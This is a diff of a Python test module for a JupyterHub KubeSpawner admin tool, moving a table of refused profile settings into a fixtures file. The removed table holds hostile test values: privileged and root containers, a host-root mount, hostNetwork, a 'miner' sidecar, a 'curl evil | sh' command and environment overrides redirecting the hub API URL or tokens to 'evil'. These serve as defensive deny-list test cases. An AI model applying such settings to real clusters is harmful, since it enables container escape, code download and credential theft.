@@ -1,11 +1,12 @@
 """What hub admins may put in a profile: the allow-list, on save, on restore, in the
 operator's layers, and widened by the operator.
 
-``REFUSED`` is the table of KubeSpawner settings that touch security or scheduling (and the
-environment names and resources inside allowed keys): each is refused from a hub admin with
-the path of the key and a message that names it and says the operator can allow it, and
-nothing is stored; each is accepted from the operator's layers. The API and form tests
-(``test_config_service.py``) and the spawn test (``test_pod_manifest.py``) use this table.
+``REFUSED`` (``tests/fixtures/refusals.py``) is the table of KubeSpawner settings that touch
+security or scheduling (and the environment names and resources inside allowed keys): each
+is refused from a hub admin with the path of the key and a message that names it and says
+the operator can allow it, and nothing is stored; each is accepted from the operator's
+layers. The API and form tests (``test_config_service.py``) and the spawn test
+(``test_allowlist_spawn.py``) use this table too.
 """
 
 from __future__ import annotations
@@ -27,87 +28,10 @@ from jhub_managed.settings.allowlist import (
 from jhub_managed.settings.schema import KUBESPAWNER_OVERRIDE, SETTINGS_SCHEMA
 from jhub_managed.store.source import SettingsSource
 
-IMAGE = "quay.io/jupyter/minimal-notebook:2025-01-06"
-AFFINITY_TERM = {
-    "labelSelector": {"matchLabels": {"app": "x"}},
-    "topologyKey": "kubernetes.io/hostname",
-}
-NODE_TERM = {"matchExpressions": [{"key": "pool", "operator": "In", "values": ["system"]}]}
+from .fixtures.refusals import REFUSED, REFUSED_IDS, profile_with
 
-#: (id, key in kubespawner_override, value, JSON pointer of the error below the override)
-REFUSED = [
-    ("privileged", "privileged", True, "/privileged"),
-    ("allow-privilege-escalation", "allow_privilege_escalation", True,
-     "/allow_privilege_escalation"),
-    ("uid", "uid", 0, "/uid"),
-    ("gid", "gid", 0, "/gid"),
-    ("fs-gid", "fs_gid", 0, "/fs_gid"),
-    ("supplemental-gids", "supplemental_gids", [0], "/supplemental_gids"),
-    ("volumes-hostpath", "volumes", [{"name": "root", "hostPath": {"path": "/"}}], "/volumes"),
-    ("volume-mounts", "volume_mounts", [{"name": "root", "mountPath": "/host"}],
-     "/volume_mounts"),
-    ("extra-pod-config", "extra_pod_config", {"hostNetwork": True}, "/extra_pod_config"),
-    ("extra-container-config", "extra_container_config",
-     {"securityContext": {"privileged": True}}, "/extra_container_config"),
-    ("extra-containers", "extra_containers", [{"name": "miner", "image": "evil:1"}],
-     "/extra_containers"),
-    ("init-containers", "init_containers", [{"name": "setup", "image": "evil:1"}],
-     "/init_containers"),
-    ("node-affinity-required", "node_affinity_required", [NODE_TERM],
-     "/node_affinity_required"),
-    ("node-affinity-preferred", "node_affinity_preferred",
-     [{"weight": 1, "preference": NODE_TERM}], "/node_affinity_preferred"),
-    ("pod-affinity-required", "pod_affinity_required", [AFFINITY_TERM],
-     "/pod_affinity_required"),
-    ("pod-affinity-preferred", "pod_affinity_preferred",
-     [{"weight": 1, "podAffinityTerm": AFFINITY_TERM}], "/pod_affinity_preferred"),
-    ("pod-anti-affinity-required", "pod_anti_affinity_required", [AFFINITY_TERM],
-     "/pod_anti_affinity_required"),
-    ("tolerations", "tolerations", [{"operator": "Exists"}], "/tolerations"),
-    ("service-account", "service_account", "hub", "/service_account"),
-    ("automount-service-account-token", "automount_service_account_token", True,
-     "/automount_service_account_token"),
-    ("container-security-context", "container_security_context", {"runAsUser": 0},
-     "/container_security_context"),
-    ("pod-security-context", "pod_security_context", {"runAsUser": 0},
-     "/pod_security_context"),
-    ("lifecycle-hooks", "lifecycle_hooks",
-     {"postStart": {"exec": {"command": ["sh", "-c", "id"]}}}, "/lifecycle_hooks"),
-    ("extra-labels", "extra_labels", {"hub.jupyter.org/managed-hub": "another"},
-     "/extra_labels"),
-    ("scheduler-name", "scheduler_name", "mine", "/scheduler_name"),
-    ("priority-class", "priority_class_name", "system-node-critical", "/priority_class_name"),
-    ("cmd", "cmd", ["sh", "-c", "curl evil | sh"], "/cmd"),
-    ("env-api-token", "environment", {"JUPYTERHUB_API_TOKEN": "mine"},
-     "/environment/JUPYTERHUB_API_TOKEN"),
-    ("env-api-url", "environment", {"JUPYTERHUB_API_URL": "http://evil"},
-     "/environment/JUPYTERHUB_API_URL"),
-    ("env-jpy", "environment", {"JPY_API_TOKEN": "mine"}, "/environment/JPY_API_TOKEN"),
-    ("env-kubernetes", "environment", {"KUBERNETES_SERVICE_HOST": "evil"},
-     "/environment/KUBERNETES_SERVICE_HOST"),
-    ("env-mem-limit", "environment", {"MEM_LIMIT": "999G"}, "/environment/MEM_LIMIT"),
-    ("env-cpu-limit", "environment", {"CPU_LIMIT": "64"}, "/environment/CPU_LIMIT"),
-    ("env-image", "environment", {"JUPYTER_IMAGE": "evil:1"}, "/environment/JUPYTER_IMAGE"),
-    ("env-suite", "environment", {"JHUB_MANAGED_CONFIG": "{}"},
-     "/environment/JHUB_MANAGED_CONFIG"),
-    ("env-grant-sudo", "environment", {"GRANT_SUDO": "yes"}, "/environment/GRANT_SUDO"),
-    ("env-nb-uid", "environment", {"NB_UID": "0"}, "/environment/NB_UID"),
-    ("unnamed-resource-limit", "extra_resource_limits", {"example.com/fpga": 1},
-     "/extra_resource_limits/example.com~1fpga"),
-    ("unnamed-resource-guarantee", "extra_resource_guarantees", {"hugepages-1Gi": "2Gi"},
-     "/extra_resource_guarantees/hugepages-1Gi"),
-]  # fmt: skip
-REFUSED_IDS = [row[0] for row in REFUSED]
 #: rows that are whole keys outside the list (the others are inside allowed keys)
 KEY_ROWS = [row for row in REFUSED if row[1] not in HUB_ADMIN_KEYS]
-
-
-def profile_with(key: str, value, slug: str = "lab") -> dict:
-    return {
-        "display_name": "Lab",
-        "slug": slug,
-        "kubespawner_override": {"image": IMAGE, "cpu_limit": 2, key: copy.deepcopy(value)},
-    }
 
 
 def base_document(*profiles) -> dict:
